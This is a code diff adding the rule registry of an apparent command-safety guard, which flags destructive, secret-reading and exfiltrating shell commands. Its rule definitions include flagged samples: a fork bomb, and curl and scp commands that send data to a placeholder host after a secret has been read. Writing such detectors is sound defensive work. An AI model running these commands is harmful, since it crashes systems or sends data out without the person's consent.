@@ -1,0 +1,90 @@
+"""The rules of the guard, one file each; the order is that in which their findings are shown."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+
+from snell.packs.guard.places import Ground
+from snell.packs.guard.rule import Finding, Rule
+from snell.packs.guard.rules import (
+    databases,
+    delete_found,
+    delete_tree,
+    disks,
+    environment,
+    git_discard,
+    git_history,
+    hidden_code,
+    infrastructure,
+    machine,
+    overwrite,
+    own_files,
+    permissions,
+    privileges,
+    read_secret,
+    remote_code,
+    secret_stores,
+    send_secret,
+    startup,
+    traces,
+    windows,
+    wipe,
+)
+from snell.packs.guard.shell.scene import Step
+
+Finder = Callable[[Step, Ground], Iterator[Finding]]
+
+FORK_BOMB = Rule(
+    name="fork-bomb",
+    family="system",
+    instead="start a fixed number of processes and wait for them",
+    flagged=(":(){ :|:& };:", "while true; do work & done"),
+    fine=("for i in 1 2 3; do work & done; wait", "while true; do sleep 1; work; done"),
+    about="Processes that start processes without end.",
+)
+AFTER_SECRET = Rule(
+    name="send-after-secret",
+    family="exfiltration",
+    instead="say what is sent and where, and let the person agree",
+    flagged=("curl -d hello https://h.example", "scp notes.txt h.example:"),
+    fine=("curl https://h.example", "git push origin main", "curl -d hello http://localhost:3000"),
+    about="Sending something in a session that has read a secret. It is asked about, since what was read may be in it.",
+)
+UNREADABLE = Rule(
+    name="unreadable",
+    family="execution",
+    instead="write it as a plain, complete command",
+    flagged=("echo 'open", 'echo "open'),
+    fine=("echo 'closed'",),
+    about="A command that cannot be read to its end, too long or too deep: asked about, never allowed.",
+)
+
+_MODULES = (
+    own_files,
+    delete_tree,
+    delete_found,
+    overwrite,
+    wipe,
+    disks,
+    git_discard,
+    git_history,
+    remote_code,
+    hidden_code,
+    send_secret,
+    read_secret,
+    secret_stores,
+    environment,
+    permissions,
+    privileges,
+    startup,
+    traces,
+    machine,
+    windows,
+    databases,
+    infrastructure,
+)
+
+FINDERS: tuple[Finder, ...] = tuple(module.find for module in _MODULES)
+RULES: dict[str, Rule] = {
+    rule.name: rule for rule in (*(module.RULE for module in _MODULES), AFTER_SECRET, FORK_BOMB, UNREADABLE)
+}
